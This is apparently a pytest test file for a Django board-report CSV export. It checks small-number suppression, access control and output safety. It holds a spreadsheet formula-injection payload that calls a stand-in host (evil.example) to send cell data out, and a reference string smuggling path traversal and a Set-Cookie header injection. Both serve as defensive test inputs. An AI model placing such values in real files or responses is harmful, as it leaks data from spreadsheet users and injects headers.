"""The board report: a CSV of the year's return, small numbers suppressed, safe to open."""

import csv
import io
import itertools
import re
from datetime import UTC, date, datetime
from decimal import Decimal
from operator import itemgetter

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from kpis.engine.compute import compute_return
from kpis.engine.figures import IndicatorFigures, ReturnFigures, TargetSetting
from kpis.engine.periods import YEAR_TO_DATE, FinancialYear
from kpis.engine.rules import Figure
from kpis.frameworks import framework_for
from reports.board_report import (
    board_report_rows,
    count_cells,
    report_periods,
    report_relations,
)
from reports.formulas import csv_safe
from tests.factories import ContractFactory
from tests.kpis.datasets import make_cornwall_records, make_wolverhampton_records
from tests.kpis.factories import InitiativeFactory
from tests.kpis.helpers import attend, person

pytestmark = pytest.mark.django_db

IN_Q3_2025 = datetime(2025, 11, 15, 12, tzinfo=UTC)
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def report_url(contract, year: int = 2025, query: str = "") -> str:
    url = reverse("reports:board_report", kwargs={"pk": contract.pk, "year": year})
    return f"{url}?{query}" if query else url


def read(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def line(rows, code: str, measure: str, category: str = "") -> dict[str, str]:
    header = rows[0]
    for row in rows[1:]:
        if row[:1] == [code] and row[2] == measure and row[3] == category:
            return dict(zip(header, row, strict=True))
    raise AssertionError(f"no line {code} {measure} {category}")


@pytest.fixture
def records(ep):
    """Q1 2025/26: three female participants. Q2: six female, two male, one from a locality
    whose name is a spreadsheet formula (on the contract's list, so the report names it)."""
    ep.localities = ["East", HOSTILE]
    ep.save()
    for n in range(3):
        attend(ep, person(ep, ref=f"Q1-{n}", gender="female"), date(2025, 5, 1))
    for n in range(6):
        attend(ep, person(ep, ref=f"Q2-F{n}", gender="female"), date(2025, 8, 1))
    for n in range(2):
        locality = HOSTILE if n == 0 else "East"
        who = person(ep, ref=f"Q2-M{n}", gender="male", locality=locality)
        attend(ep, who, date(2025, 8, 1))


@time_machine.travel(IN_Q3_2025, tick=False)
def test_it_hides_small_counts_and_the_cells_that_would_give_them_away(
    client, commissioner, ep, records
):
    client.force_login(commissioner)
    response = client.get(report_url(ep))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = read(response)
    assert rows[0][:5] == ["Code", "Indicator", "Measure", "Category", "Target"]
    headline = line(rows, "1.2", "count")
    assert (headline["Q1"], headline["Q2"], headline["Year to date"]) == ("c", "8", "11")
    # Q2's gender: male 2 is small; female 6 would then be 8 - 2, so it is hidden too. The
    # same in the year to date (11 = 9 + 2). In Q1 female 3 is small itself; male stays 0.
    female = line(rows, "1.2", "Gender (count)", "Female")
    male = line(rows, "1.2", "Gender (count)", "Male")
    assert (female["Q1"], female["Q2"], female["Year to date"]) == ("c", "c", "c")
    assert (male["Q1"], male["Q2"], male["Year to date"]) == ("0", "c", "c")
    # Q2's localities: the formula-named one is 1, and East 7 = 8 - 1 would give it away.
    east = line(rows, "1.2", "Locality (as recorded) (count)", "East")
    assert (east["Q1"], east["Q2"], east["Year to date"]) == ("c", "c", "c")
    # Percentages with a small numerator or denominator are hidden with them.
    feedback = line(rows, "1.13", "percentage")
    assert feedback["Q1"] == "c"
    # Hours are not counts of people: shown as they are (three two-hour sessions in Q1).
    assert line(rows, "1.3", "hours")["Q1"] == "6.00"
    assert rows[-1][0].startswith("c: a count from 1 to 5")


@time_machine.travel(IN_Q3_2025, tick=False)
def test_asked_not_to_it_shows_every_figure(client, commissioner, ep, records):
    client.force_login(commissioner)
    response = client.get(report_url(ep, query="suppress=0"))
    rows = read(response)
    assert line(rows, "1.2", "count")["Q1"] == "3"
    assert line(rows, "1.2", "Gender (count)", "Male")["Q2"] == "2"
    assert not any(cell == "c" for row in rows for cell in row)
    assert "not-suppressed" in response["Content-Disposition"]


@time_machine.travel(IN_Q3_2025, tick=False)
@pytest.mark.parametrize("persona", ["commissioner", "provider_a_manager", "administrator"])
def test_it_suppresses_by_default_for_everyone(request, client, ep, records, persona):
    client.force_login(request.getfixturevalue(persona))
    rows = read(client.get(report_url(ep)))
    assert line(rows, "1.2", "count")["Q1"] == "c"


@time_machine.travel(IN_Q3_2025, tick=False)
def test_a_cell_that_looks_like_a_formula_is_written_as_text(
    client, provider_a_manager, ep, records
):
    client.force_login(provider_a_manager)
    rows = read(client.get(report_url(ep, query="suppress=0")))
    locality = line(rows, "1.2", "Locality (as recorded) (count)", "'" + HOSTILE)
    assert locality["Q2"] == "1"
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+44 1872", "'+44 1872"),
        ("-3", "'-3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("Truro", "Truro"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_csv_safe_prefixes_an_apostrophe_to_what_a_spreadsheet_would_run(text, safe):
    assert csv_safe(text) == safe


@time_machine.travel(IN_Q3_2025, tick=False)
def test_its_file_name_is_safe_whatever_the_reference(client, council_a, administrator):
    contract = ContractFactory(ref='Évil "ref"/../;x\r\nSet-Cookie: a=b', commissioner=council_a)
    client.force_login(administrator)
    response = client.get(report_url(contract))
    disposition = response["Content-Disposition"]
    match = re.fullmatch(r'attachment; filename="([a-z0-9-]+\.csv)"', disposition)
    assert match, disposition
    assert match.group(1) == "evil-ref-x-set-cookie-a-b-kpis-2025-26-board-report.csv"


@pytest.mark.parametrize(
    ("persona", "status"),
    [("commissioner_b", 404), ("provider_b_worker", 404), ("panel_member", 404)],
)
def test_others_cannot_download_it(request, client, ep, persona, status):
    client.force_login(request.getfixturevalue(persona))
    assert client.get(report_url(ep)).status_code == status


def test_a_year_the_contract_does_not_run_is_not_found(client, commissioner, ep):
    client.force_login(commissioner)
    assert client.get(report_url(ep, year=2030)).status_code == 404


@time_machine.travel(datetime(2026, 5, 15, 12, tzinfo=UTC), tick=False)
def test_an_event_counts_quarters_add_up_to_its_year_so_a_second_quarter_is_hidden(
    client, commissioner, ep
):
    """1.5 counts initiatives, each dated once: Q1 3 + Q2 10 + Q3 0 + Q4 0 = the year's 13.
    Q1 is small; 13 - 10 would give it away, so Q2 goes too (the 0s cannot hide anything)."""
    for n in range(3):
        InitiativeFactory(contract=ep, date=date(2025, 5, 1), ref=f"I-Q1-{n}")
    for n in range(10):
        InitiativeFactory(contract=ep, date=date(2025, 8, 1), ref=f"I-Q2-{n}")
    client.force_login(commissioner)
    initiatives = line(read(client.get(report_url(ep))), "1.5", "count")
    assert [initiatives[q] for q in ("Q1", "Q2", "Q3", "Q4", "Annual total")] == [
        "c",
        "c",
        "0",
        "0",
        "13",
    ]


@time_machine.travel(datetime(2026, 5, 15, 12, tzinfo=UTC), tick=False)
def test_distinct_young_peoples_quarters_are_not_taken_to_add_up(client, commissioner, ep):
    """1.2 counts young people once a period: 3 in Q1 and the same 3 plus 7 more in Q2 make 10
    in the year, not 13, so hiding Q1 needs nothing else hidden."""
    people = [person(ep, ref=f"P-{n}") for n in range(10)]
    for who in people[:3]:
        attend(ep, who, date(2025, 5, 1))
    for who in people:
        attend(ep, who, date(2025, 8, 1))
    client.force_login(commissioner)
    participation = line(read(client.get(report_url(ep))), "1.2", "count")
    assert [participation[q] for q in ("Q1", "Q2", "Annual total")] == ["c", "10", "10"]


def test_a_wolverhampton_report_has_its_half_years(client, provider_b_worker, contract_b):
    client.force_login(provider_b_worker)
    response = client.get(report_url(contract_b))
    assert response.status_code == 200
    rows = read(response)
    assert rows[0][5:12] == ["Q1", "Q2", "Q3", "Q4", "H1", "H2", "FY"]
    assert {row[0] for row in rows[1:-1]} >= {"A2.1", "A2.10"}


@time_machine.travel(IN_Q3_2025, tick=False)
def test_its_queries_are_the_returns_whatever_the_records(
    client, commissioner, ep, django_assert_max_num_queries
):
    """The session and user (2), the contract (1), then compute_return for the framework's five
    columns and the year to date: the targets (1), the participation facts of every period at
    once (5), per period counted twelve aggregates (the year to date is Q1 to Q2, its own
    span; Q4 has not started and is not counted, so five periods), and the snapshot's
    savepoint and release (2; on PostgreSQL switching JIT off, 1); and the audit's row (1: an
    export)."""
    extra = 3 if connection.vendor == "postgresql" else 2
    most = 2 + 1 + 1 + 5 + 5 * 12 + extra + 1
    client.force_login(commissioner)
    make_cornwall_records(ep, scale=1)
    with django_assert_max_num_queries(most):
        client.get(report_url(ep))
    make_cornwall_records(ep, scale=10, seed=99)
    with CaptureQueriesContext(connection) as captured:
        client.get(report_url(ep))
    assert len(captured) == most


# ---------------------------------------------------------------------------------------------
# Secondary suppression across the whole report, on returns built by hand
# ---------------------------------------------------------------------------------------------

YEAR = FinancialYear(2025)
# A day with this many quarters of 2025/26 over.
WITH_QUARTERS_OVER = {
    0: date(2025, 5, 15),
    1: date(2025, 8, 15),
    2: date(2025, 11, 15),
    3: date(2026, 2, 15),
    4: date(2026, 5, 15),
}
QUARTERS_OF = {"Q1": (0,), "Q2": (1,), "Q3": (2,), "Q4": (3,), "H1": (0, 1), "H2": (2, 3)}
QUARTERS_OF["FY"] = (0, 1, 2, 3)


def event_measures(framework_code: str) -> dict[str, frozenset[str]]:
    """The measures each indicator declares count dated events (kpis.frameworks)."""
    indicators = framework_for(framework_code).indicators
    return {indicator.code: indicator.events for indicator in indicators if indicator.events}


def spans(framework_code: str, over: int) -> dict[str, tuple[int, ...]]:
    """The report's columns as the quarters each covers (the year to date: those over)."""
    columns = {name: QUARTERS_OF[name] for name, _ in framework_for(framework_code).columns}
    return columns | ({YEAR_TO_DATE: tuple(range(over))} if over else {})


def events(framework_code: str, quarters, over: int, figure=Figure) -> dict:
    """A count of dated events' figures: each period the sum of its quarters."""
    return {
        period: figure(sum(quarters[q] for q in covered))
        for period, covered in spans(framework_code, over).items()
    }


def a_return(
    framework_code: str, figures: dict[str, dict[str, Figure]], over: int
) -> ReturnFigures:
    framework = framework_for(framework_code)
    rows = tuple(
        IndicatorFigures(framework.indicator(code), TargetSetting(None, "Monitor only"), by_period)
        for code, by_period in figures.items()
    )
    columns = next(iter(figures.values())).keys() if figures else ()
    return ReturnFigures(framework, YEAR, rows, tuple(columns), quarters_elapsed=over)


def shown(
    kpi_return: ReturnFigures,
    code: str,
    measure: str = "count",
    category: str = "",
    localities: tuple[str, ...] = (),
) -> dict:
    rows = board_report_rows(kpi_return, suppress_small_numbers=True, localities=localities)
    cells = line(rows, code, measure, category)
    return {period: cells[heading] for period, heading in headings(kpi_return).items()}


def headings(kpi_return: ReturnFigures) -> dict[str, str]:
    names = dict(kpi_return.framework.columns)
    return {p: names.get(p, "Year to date") for p in report_periods(kpi_return)}


def picker(indices: list[int]):
    """A function taking these positions of a tuple, as a tuple."""
    if len(indices) == 1:
        index = indices[0]
        return lambda values: (values[index],)
    return itemgetter(*indices) if indices else lambda values: ()


class Reader:
    """Someone reading an event count's line of the report, who knows that its periods add up
    and that a hidden cell is at least 1: every assignment of quarters from 0 to `most` that
    agrees with the published cells, so which hidden cells take one value only.

    Each pattern of hidden cells indexes the assignments once, by their published values."""

    def __init__(self, spans: dict[str, tuple[int, ...]], most: int = 9) -> None:
        self.periods = list(spans)
        self.assignments = [
            tuple(sum(quarters[q] for q in spans[p]) for p in self.periods)
            for quarters in itertools.product(range(most + 1), repeat=4)
        ]
        self.indexes: dict[tuple[int, ...], dict[tuple, set[tuple]]] = {}

    def disclosed(self, cells: dict[str, str]) -> list[str]:
        hidden = [i for i, p in enumerate(self.periods) if cells[p] == "c"]
        published = [i for i, p in enumerate(self.periods) if cells[p] != "c"]
        if tuple(hidden) not in self.indexes:
            index: dict[tuple, set[tuple]] = {}
            key_of, hidden_of = picker(published), picker(hidden)
            for values in self.assignments:
                unknown = hidden_of(values)
                if min(unknown, default=1) >= 1:
                    index.setdefault(key_of(values), set()).add(unknown)
            self.indexes[tuple(hidden)] = index
        found = self.indexes[tuple(hidden)][tuple(int(cells[self.periods[i]]) for i in published)]
        return [self.periods[i] for n, i in enumerate(hidden) if len({u[n] for u in found}) == 1]


def test_the_year_to_date_and_the_year_together_give_nothing_away():
    """Cornwall 1.5 during Q4, Q1-Q4 = 0/2/7/2: a sum at a time, FY 11 and the year to date 9
    (Q1-Q3) each have two hidden quarters, but 11 - 9 is Q4 and 9 - 0 - 7 is Q2. Hiding the
    year to date protects both (hiding Q3 would leave Q4 = 11 - 9)."""
    report = a_return("cornwall_ep", {"1.5": events("cornwall_ep", (0, 2, 7, 2), 3)}, 3)
    cells = shown(report, "1.5")
    assert cells == {"Q1": "0", "Q2": "c", "Q3": "7", "Q4": "c", "FY": "11", YEAR_TO_DATE: "c"}
    assert Reader(spans("cornwall_ep", 3)).disclosed(cells) == []


def test_the_year_to_date_is_h1_once_two_quarters_are_over():
    """Wolverhampton A2.5 during Q3, Q1-Q4 = 7/9/3/0: the year to date covers H1's days, so FY
    19 - year to date 16 gives H2 (3) and Q3 away. FY goes; Q1, Q2, H1 and the year to date
    (16, as H1) stay."""
    report = a_return(
        "wolverhampton_ypt", {"A2.5": events("wolverhampton_ypt", (7, 9, 3, 0), 2)}, 2
    )
    cells = shown(report, "A2.5")
    assert cells == {
        "Q1": "7", "Q2": "9", "Q3": "c", "Q4": "0",
        "H1": "16", "H2": "c", "FY": "c", YEAR_TO_DATE: "16",
    }  # fmt: skip
    assert Reader(spans("wolverhampton_ypt", 2)).disclosed(cells) == []


def applications(submitted: int) -> Figure:
    """1.9: the applicants are distinct young people; the breakdown counts applications."""
    return Figure(
        value=submitted, breakdown={"applications": {"submitted": submitted, "successful": 0}}
    )


@pytest.mark.parametrize(
    ("over", "submitted"),
    [
        # The year over: the year to date is the year, 28 - 25 gives Q1 away; the smallest
        # quarter that protects it, Q4 (7), goes too.
        (4, {"Q1": "c", "Q2": "10", "Q3": "8", "Q4": "c", "FY": "28", YEAR_TO_DATE: "28"}),
        # During Q4 the year to date is Q1-Q3, 21: 21 - 18 gives Q1 away too, and hiding Q4
        # would not protect it. Q3 (8) goes: Q1 + Q3 = 11 twice over.
        (3, {"Q1": "c", "Q2": "10", "Q3": "c", "Q4": "7", "FY": "28", YEAR_TO_DATE: "21"}),
    ],
)
def test_applications_add_up_across_quarters_though_applicants_do_not(over, submitted):
    """1.9's "Applications submitted" counts applications, each submitted in one quarter:
    3/10/8/7 in the quarters and 28 in the year."""
    report = a_return(
        "cornwall_ep", {"1.9": events("cornwall_ep", (3, 10, 8, 7), over, applications)}, over
    )
    cells = shown(report, "1.9", "Applications (count)", "Applications submitted")
    assert cells == submitted
    assert Reader(spans("cornwall_ep", over), most=12).disclosed(cells) == []
    # The applicants (distinct young people) have no sums: only the small Q1 is hidden.
    applicants = shown(report, "1.9")
    assert applicants == {"Q1": "c", "Q2": "10", "Q3": "8", "Q4": "7", "FY": "28"} | {
        YEAR_TO_DATE: submitted[YEAR_TO_DATE]
    }


@pytest.mark.parametrize(
    ("framework_code", "code", "over", "measure", "figure"),
    [
        ("cornwall_ep", "1.5", 3, ("count", ""), Figure),
        ("wolverhampton_ypt", "A2.5", 2, ("count", ""), Figure),
        ("wolverhampton_ypt", "A2.8", 3, ("count", ""), Figure),
        ("cornwall_ep", "1.9", 4, ("Applications (count)", "Applications submitted"), applications),
    ],
    ids=["1.5 during Q4", "A2.5 during Q3", "A2.8 during Q4", "1.9 applications, year over"],
)
def test_no_hidden_cell_of_an_event_count_can_be_worked_out(
    framework_code, code, over, measure, figure
):
    """Every combination of quarters from 0 to 7: each count from 1 to 5 is hidden, no 0 is,
    and the published cells leave each hidden one more than one value."""
    reader = Reader(spans(framework_code, over))
    for quarters in itertools.product(range(8), repeat=4):
        figures = events(framework_code, quarters, over, figure)
        cells = shown(a_return(framework_code, {code: figures}, over), code, *measure)
        assert reader.disclosed(cells) == [], (quarters, cells)
        for period, covered in spans(framework_code, over).items():
            value = sum(quarters[q] for q in covered)
            if value <= 5:
                assert cells[period] == ("c" if value else "0"), (quarters, cells)


def test_a_figure_that_is_another_indicators_is_hidden_with_it():
    """Six participants in Q2 from six localities: each locality is 1, so all six are hidden,
    and a published headline of 6 would say each is 1. The headline goes, and with it 1.13's
    denominator (participants in P) and its percentage, the same number."""
    people = {
        "gender": {"female": 3, "male": 3},
        "locality": {f"Town {n}": 1 for n in range(6)},
        "age_band": {"16-17": 6},
    }
    participation = {p: Figure(value=0) for p in spans("cornwall_ep", 0)}
    participation["Q2"] = Figure(value=6, breakdown=people)
    feedback = {p: Figure(value=None, numerator=0, denominator=0) for p in spans("cornwall_ep", 0)}
    feedback["Q2"] = Figure(value=Decimal("0.0"), numerator=0, denominator=6)
    report = a_return("cornwall_ep", {"1.2": participation, "1.13": feedback}, 0)
    towns = tuple(people["locality"])
    assert shown(report, "1.2", localities=towns)["Q2"] == "c"
    assert shown(report, "1.2", "Locality (as recorded) (count)", "Town 0", towns)["Q2"] == "c"
    age = "Age band (on the period's last day) (count)"
    assert shown(report, "1.2", age, "16-17", towns)["Q2"] == "c"
    assert shown(report, "1.13", "denominator", localities=towns)["Q2"] == "c"
    assert shown(report, "1.13", "percentage", localities=towns)["Q2"] == "c"
    assert shown(report, "1.13", "numerator", localities=towns)["Q2"] == "0"


@pytest.mark.parametrize(
    ("framework_code", "make_records"),
    [("cornwall_ep", make_cornwall_records), ("wolverhampton_ypt", make_wolverhampton_records)],
)
def test_every_relation_it_relies_on_holds_on_computed_figures(
    framework_code, make_records, ep, contract_b
):
    """The relations are taken from the counting rules; on a year of generated records, in
    every state of the year, the computed figures satisfy each one."""
    contract = ep if framework_code == "cornwall_ep" else contract_b
    make_records(contract, scale=1)
    for over in (1, 2, 3, 4):
        kpi_return = compute_return(
            contract, YEAR, today=WITH_QUARTERS_OVER[over], with_status=True
        )
        periods = report_periods(kpi_return)
        counts = count_cells(kpi_return, periods)
        relations = report_relations(kpi_return, periods)
        assert relations
        assert [r for r in relations if not r.holds(counts)] == []
        # Not a vacuous check: each event measure's quarters are not all 0 (once the year is
        # over: before, the quarters are counted to the day, and the generated records of an
        # event may all come later).
        for code, measures in event_measures(framework_code).items() if over == 4 else ():
            if code in {row.indicator.code for row in kpi_return.rows}:
                quarters = [key for key in counts if key[0] == code and key[1] in measures]
                assert any(counts[key] for key in quarters), code
    # Nor could more be declared: distinct young people's quarters add up to more than the year.
    people = "1.2" if framework_code == "cornwall_ep" else "A2.4"
    quarters = sum(counts[(people, "value", q)] for q in ("Q1", "Q2", "Q3", "Q4"))
    assert quarters > counts[(people, "value", "FY")]


@time_machine.travel(datetime(2025, 12, 2, 12, tzinfo=UTC), tick=False)
def test_it_marks_the_periods_not_over_and_leaves_a_quarter_not_started_empty(
    client, commissioner, ep, records
):
    """On 2 December 2025 Q3 is in progress and Q4 has not started (issue 11). A session
    already entered for January would otherwise give Q4 a figure."""
    attend(ep, person(ep, ref="JAN-1"), date(2026, 1, 20))
    client.force_login(commissioner)
    rows = read(client.get(report_url(ep, query="suppress=0")))
    header, marks = rows[0], rows[1]
    assert dict(zip(header, marks, strict=True)) | {"Measure": marks[2]} == {
        **dict.fromkeys(header, ""),
        "Measure": "Period not over",
        "Q3": "so far, to 2 December 2025",
        "Q4": "not started",
        "Annual total": "so far, to 2 December 2025",
    }
    headline = line(rows, "1.2", "count")
    assert (headline["Q1"], headline["Q2"], headline["Q4"], headline["Year to date"]) == (
        "3",
        "8",
        "",
        "11",
    )
    assert line(rows, "1.2", "Gender (count)", "Female")["Q4"] == ""
